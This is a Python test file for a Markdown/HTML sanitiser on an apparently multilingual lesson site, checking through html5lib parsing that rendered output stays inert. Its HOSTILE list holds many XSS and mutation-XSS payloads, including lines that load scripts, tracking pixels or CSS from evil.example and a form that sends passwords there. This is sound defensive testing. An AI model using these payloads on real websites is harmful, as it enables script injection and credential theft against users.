"""Hostile Markdown and HTML stay inert: judged on the DOM that a browser would build, not on strings."""

from __future__ import annotations

import re
from collections.abc import Iterator
from dataclasses import replace

import html5lib
import pytest
from hypothesis import given
from hypothesis import strategies as st

from app.web.markup import TAGS, Book, Citation, Contact, Term, is_link, mark_foreign, render, render_inline, sanitise

BOOK = Book(
    contacts={
        "eran": Contact('ERAN <img src=x onerror=alert(1)> "&', "1201"),
        "sahar": Contact("Sahar", url="https://sahar.example/"),
    },
    terms={"resilience": Term("resilience", '"><script>alert(1)</script>')},
    citations={"FHS": Citation("1", 'WHO "><svg onload=alert(1)>'), "PM+": Citation("2", "WHO 2016")},
    media={"media/door.png": "/media/abc.png"},
    language="en",
)
OURS = {"span", "bdi"}
ALLOWED = {
    "a": {"href", "rel", "title", "class", "data-term"},
    "img": {"src", "alt"},
    "ol": {"start"},
    "sup": {"class"},
    "span": {"class", "data-term", "title"},
    "bdi": {"dir", "lang"},
    **{f"h{level}": {"id"} for level in range(2, 7)},
}
SAFE_ADDRESS = re.compile(
    r"(?:https?://[^\\\s]+|mailto:[^\\\s]+|tel:[0-9+*#]+|#[^\s]*|/(?![/\\])[^\\\s:]*|(?![/\\])[^\\\s:]*(?:[?#/][^\\\s]*)?)",
    re.I,
)

HOSTILE = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<script\x00>alert(1)</script>",
    "<script/x>alert(1)</script>",
    "<<script>alert(1)//<</script>",
    "<img src=x onerror=alert(1)>",
    "<img src=x onerror=alert(1)//",
    '<img """><script>alert(1)</script>">',
    "<img/src='x'/onerror=alert(1)>",
    "<img src=javascript:alert(1)>",
    "<img src='data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+'>",
    "<img src='http://evil.example/pixel.gif'>",
    "<img srcset='http://evil.example/pixel.gif 1x'>",
    "![x](javascript:alert(1))",
    "![x](http://evil.example/pixel.gif)",
    "![x](//evil.example/pixel.gif)",
    "![x](media/../../secret.png)",
    '![x"onerror="alert(1)](media/door.png)',
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt:alert(1))",
    "[x](java\tscript:alert(1))",
    "[x](java\nscript:alert(1))",
    "[x](&#106;avascript:alert(1))",
    "[x](&#x6A&#x61vascript:alert(1))",
    "[x](javascript&colon;alert(1))",
    "[x](\x01javascript:alert(1))",
    "[x]( javascript:alert(1))",
    "[x](vbscript:msgbox(1))",
    "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "[x](file:///etc/passwd)",
    "[x](blob:https://kelim.example/1)",
    "[x](//evil.example)",
    "[x](\\\\evil.example)",
    "[x](/\\evil.example)",
    "[x](https:evil.example)",
    "[x](https://kelim.example@evil.example\\@)",
    '[x](https://a.example" onclick="alert(1))',
    "[x](https://a.example 'x\" onmouseover=\"alert(1)')",
    "[x]: javascript:alert(1)\n\n[x][x]",
    "<javascript:alert(1)>",
    "<a href=javascript:alert(1)>x</a>",
    "<a href='&#1;javascript:alert(1)'>x</a>",
    "<a href='java&NewLine;script:alert(1)'>x</a>",
    "<a href=# onclick=alert(1)>x</a>",
    "<a href=# target=_blank style=color:red>x</a>",
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><a xlink:href='javascript:alert(1)'><text>x</text></a></svg>",
    "<svg><style><img src=x onerror=alert(1)></style></svg>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<svg><use href='data:image/svg+xml,<svg id=x onload=alert(1)>#x'/></svg>",
    "<svg></p><style><a id='</style><img src=1 onerror=alert(1)>'>",
    "<math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    "<math><mi//xlink:href='data:x,<script>alert(1)</script>'>",
    "<math><annotation-xml encoding='text/html'><img src=x onerror=alert(1)></annotation-xml></math>",
    "<form><math><mtext></form><form><mglyph><svg><mtext><style><path id='</style><img onerror=alert(1) src>'>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<noembed><img src=x onerror=alert(1)></noembed>",
    "<noframes><p id='</noframes><img src=x onerror=alert(1)>'>",
    "<textarea><img src=x onerror=alert(1)></textarea>",
    "<title><img src=x onerror=alert(1)></title>",
    "<xmp><p title='</xmp><img src=x onerror=alert(1)>'>",
    "<listing>&lt;img onerror=alert(1) src&gt;</listing>",
    "<plaintext><script>alert(1)</script>",
    "<template><script>alert(1)</script></template>",
    "<select><option><style></option></select><img src=x onerror=alert(1)></style>",
    "<style>@import 'https://evil.example/x.css';</style>",
    "<style>input[value^=a]{background:url(https://evil.example/a)}</style>",
    "<p style='background:url(javascript:alert(1))'>x</p>",
    "<div style='width:expression(alert(1))'>x</div>",
    "<link rel=stylesheet href=https://evil.example/x.css>",
    "<base href=https://evil.example/>",
    "<meta http-equiv=refresh content='0;url=https://evil.example'>",
    "<iframe src=javascript:alert(1)></iframe>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<object data=javascript:alert(1)></object>",
    "<embed src=javascript:alert(1)>",
    "<applet code=x></applet>",
    "<form action=https://evil.example><input name=password><button>Go</button></form>",
    "<button formaction=javascript:alert(1)>x</button>",
    "<isindex action=javascript:alert(1)>",
    "<input autofocus onfocus=alert(1)>",
    "<details open ontoggle=alert(1)>",
    "<video><source onerror=alert(1)></video>",
    "<audio src=x onerror=alert(1)>",
    "<body onload=alert(1)>",
    "<html xmlns:xdp='x'><head><script>alert(1)</script>",
    "<marquee onstart=alert(1)>",
    "<dialog open>Sign in again</dialog>",
    "<!--><img src=x onerror=alert(1)>-->",
    "<!--[if gte IE 4]><script>alert(1)</script><![endif]-->",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<?xml-stylesheet href='javascript:alert(1)'?>",
    "<p id=cookie name=body>clobber</p>",
    "<a id=attributes><a id=attributes name=nodeType>clobber</a>",
    "## Title {#x onclick=alert(1)}",
    "## Title {onclick=alert(1)}",
    '## Title {#"><script>alert(1)</script>}',
    "`<script>alert(1)</script>`",
    "```html\n<script>alert(1)</script>\n```",
    "    <script>alert(1)</script>",
    "| <script>alert(1)</script> | b |\n|---|---|\n| <img src=x onerror=alert(1)> | c |",
    "- <img src=x onerror=alert(1)>",
    "> <iframe src=x>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&amp;lt;script&amp;gt;",
    "\u003cscript\u003ealert(1)\u003c/script\u003e",
    "＜script＞alert(1)＜/script＞",
    "{{contact:<script>alert(1)</script>}}",
    "{{term:resilience|<script>alert(1)</script>}}",
    '{{term:resilience|"><img src=x onerror=alert(1)>}}',
    "[@<script>alert(1)</script>]",
    "[{{contact:eran}}](https://a.example/{{contact:eran}})",
    '[x](https://a.example/{{term:resilience|"><script>alert(1)</script>}})',
    "![{{contact:eran}}](media/door.png)",
    "[@FHS](javascript:alert(1))",
    "\ue0000\ue001 \ue00099\ue001",
    "[x](#{{contact:eran}})",
    "\x02klzzwxh:0000\x03 \x02wzxhzdk:0\x03",
    "a\x02amp\x03b",
    "*" * 500 + "<script>alert(1)</script>",
    "[" * 300 + "x" + "](javascript:alert(1))" * 3,
    "<a href='x" + "\x00" + "javascript:alert(1)'>",
]


def elements(html: str) -> Iterator[tuple[str, dict[str, str]]]:
    """Every element that a browser would make of this fragment, with its attributes."""
    fragment = html5lib.parseFragment(html, treebuilder="etree", namespaceHTMLElements=True)
    for element in fragment.iter():
        if isinstance(element.tag, str) and element is not fragment:
            yield element.tag, dict(element.attrib)


def assert_inert(html: str) -> None:
    for tag, attributes in elements(html):
        namespace, _, name = tag.rpartition("}")
        assert namespace == "{http://www.w3.org/1999/xhtml", tag
        assert name in TAGS | OURS, name
        assert set(attributes) <= ALLOWED.get(name, set()), (name, attributes)
        for key in ("href", "src"):
            if key in attributes:
                assert SAFE_ADDRESS.fullmatch(attributes[key]), attributes[key]
        if name == "img":
            assert attributes["src"] == "/media/abc.png"


@pytest.mark.parametrize("text", HOSTILE)
def test_hostile_markdown_is_inert(text: str):
    assert_inert(render(text, BOOK))
    assert_inert(render_inline(text, BOOK))


@pytest.mark.parametrize("text", HOSTILE)
def test_hostile_html_is_inert_behind_the_second_wall_alone(text: str):
    once = sanitise(text)
    assert_inert(once)
    assert_inert(sanitise(once))


@pytest.mark.parametrize("text", HOSTILE)
def test_what_a_browser_makes_of_it_is_inert_once_more(text: str):
    """Mutation: parsed and serialised as `innerHTML` would, it stays what it was."""
    fragment = html5lib.parseFragment(render(text, BOOK), treebuilder="etree")
    assert_inert(html5lib.serialize(fragment, tree="etree"))


@given(
    st.lists(
        st.sampled_from(
            [
                "<",
                ">",
                "script",
                "img src=x onerror=a()",
                "/",
                '"',
                "'",
                "`",
                "[",
                "](",
                ")",
                "javascript:",
                "&#",
                "{{contact:eran}}",
                "\n",
                "\n\n",
                " ",
                "svg",
                "style",
                "<!--",
                "-->",
                "*",
                "_",
                "|",
            ]
        ),
        max_size=25,
    )
)
def test_no_mixture_escapes(pieces: list[str]):
    assert_inert(render("".join(pieces), BOOK))


@given(st.text())
def test_nothing_raises(text: str):
    assert_inert(render(text, BOOK))


def only(html: str, name: str) -> dict[str, str]:
    found = [attributes for tag, attributes in elements(html) if tag.endswith("}" + name)]
    assert len(found) == 1, html
    return found[0]


def test_raw_html_is_shown_as_text():
    assert render("a <b>c</b>") == "<p>a &lt;b&gt;c&lt;/b&gt;</p>"


def test_links_outwards_carry_rel_and_others_do_not():
    assert only(render("[x](https://a.example/b?c=1&d=2)"), "a") == {
        "href": "https://a.example/b?c=1&d=2",
        "rel": "noopener noreferrer",
    }
    assert only(render("[x](/lessons/a)"), "a") == {"href": "/lessons/a"}
    assert only(render("[x](#a)"), "a") == {"href": "#a"}


def test_addresses_that_a_text_may_link_to():
    assert all(
        map(
            is_link,
            [
                "https://a.example",
                "http://a.example:8000/x",
                "mailto:a@b.example",
                "/x?y=1#z",
                "#z",
                "media/x.png",
                "../x",
            ],
        )
    )
    assert not any(
        map(
            is_link, ["javascript:x", "//a.example", "/\\a", "tel:1201", "data:,x", "https:x", "ftp://a.example", "x:y"]
        )
    )


def test_a_heading_keeps_its_id():
    assert render("## One *two* {#one-two}") == '<h2 id="one-two">One <em>two</em></h2>'


def test_a_contact_becomes_a_name_and_a_number_to_call():
    html = render("Call {{contact:eran}}.", BOOK)
    assert only(html, "a") == {"href": "tel:1201"}
    assert 'ERAN &lt;img src=x onerror=alert(1)&gt; "&amp;' in html
    assert only(render("{{contact:sahar}}", BOOK), "a")["href"] == "https://sahar.example/"


def test_a_contact_inside_a_link_or_code_makes_no_second_link():
    assert only(render("[{{contact:eran}}](/help-now)", BOOK), "a") == {"href": "/help-now"}
    assert render("`{{contact:eran}}`", BOOK) == "<p><code>{{contact:eran}}</code></p>"


def test_a_citation_leads_to_the_list_of_sources():
    html = render("As shown [@FHS; @PM+].", BOOK)
    links = [attributes for tag, attributes in elements(html) if tag.endswith("}a")]
    assert [link["href"] for link in links] == ["#source-FHS", "#source-PM+"]
    assert links[0]["title"] == 'WHO "><svg onload=alert(1)>'


def test_a_term_says_its_meaning():
    assert only(render("{{term:resilience|her resilience}}", BOOK), "a") == {
        "class": "term",
        "data-term": "resilience",
        "href": "/glossary#resilience",
        "title": '"><script>alert(1)</script>',
    }


def test_a_code_of_the_never_list_leads_there():
    book = replace(BOOK, never=frozenset({"N1", "N14"}))
    assert render("We stay (N1, N14).", book) == (
        '<p>We stay (<a href="/never#N1">N1</a>, <a href="/never#N14">N14</a>).</p>'
    )
    assert "/never#N14" in render("**ولا** نختفي (N14)، بل نودّع", replace(book, language="ar"))


@pytest.mark.parametrize("text", ["N2", "N140", "AN1", "N1a", "x-N1", "`N1`", "[N1](/never)", "{{term:resilience|N1}}"])
def test_what_only_looks_like_a_code_stays_as_it_is(text: str):
    assert "#N" not in render(text, replace(BOOK, never=frozenset({"N1"})))


def test_a_code_leads_nowhere_where_leaving_would_hurt():
    book = replace(BOOK, never=frozenset({"N1"}), terms_as="tap")
    assert render("We stay (N1).", book) == "<p>We stay (N1).</p>"


def test_a_term_leads_nowhere_where_leaving_would_hurt():
    html = render("{{term:resilience|her resilience}}", replace(BOOK, terms_as="tap"))
    assert only(html, "span")["title"] == '"><script>alert(1)</script>'
    assert "<a" not in html


def test_a_term_in_a_label_or_a_link_is_a_word():
    assert render_inline("Her {{term:resilience}}", BOOK) == "Her resilience"
    assert only(render("[{{term:resilience}}](/help-now)", BOOK), "a") == {"href": "/help-now"}


@pytest.mark.parametrize(
    ("language", "written", "shown"),
    [
        ("he", "אומרים على الأقلّ, ואז", 'אומרים <bdi lang="ar" dir="rtl">على الأقلّ</bdi>, ואז'),
        ("ar", "يقولون **לפחות** ثمّ", 'يقولون <strong><bdi lang="he" dir="rtl">לפחות</bdi></strong> ثمّ'),
        (
            "en",
            "Say לפחות or على الأقلّ.",
            'Say <bdi lang="he" dir="rtl">לפחות</bdi> or <bdi lang="ar" dir="rtl">على الأقلّ</bdi>.',
        ),
        ("he", "של ארגון WHO, ב־2011", "של ארגון WHO, ב־2011"),
        ("he", "`على`", "<code>على</code>"),
        ("", "אומרים على", "אומרים على"),
    ],
)
def test_words_quoted_in_another_language_are_marked(language: str, written: str, shown: str):
    assert render(written, Book(language=language)) == f"<p>{shown}</p>"


def test_plain_text_is_marked_and_escaped_alike():
    shown = mark_foreign("A <b> and חוסן, said.", "en")
    assert shown == 'A &lt;b&gt; and <bdi lang="he" dir="rtl">חוסן</bdi>, said.'


def test_an_unknown_reference_stays_as_written():
    assert render("{{contact:nobody}} {{term:x}}", BOOK) == "<p>{{contact:nobody}} {{term:x}}</p>"


def test_pictures_come_from_the_lesson_only():
    assert only(render("![A door](media/door.png)", BOOK), "img") == {"src": "/media/abc.png", "alt": "A door"}
    assert "img" not in render("![A door](media/other.png)", BOOK)


def test_a_link_to_a_file_of_the_lesson_gets_its_address():
    assert only(render("[A door](media/door.png)", BOOK), "a") == {"href": "/media/abc.png"}


def test_inline_text_has_no_paragraph():
    assert render_inline("A *b*") == "A <em>b</em>"
    assert render_inline("A\n\nB") == "<p>A</p>\n<p>B</p>"


def test_sanitising_twice_changes_nothing():
    html = render("## A {#a}\n\n- b\n- [c](https://d.example)\n\n| e | f |\n|---|---|\n| g | h |", BOOK)
    assert re.sub(' rel="[^"]*"', "", sanitise(html)) == re.sub(' rel="[^"]*"', "", html)
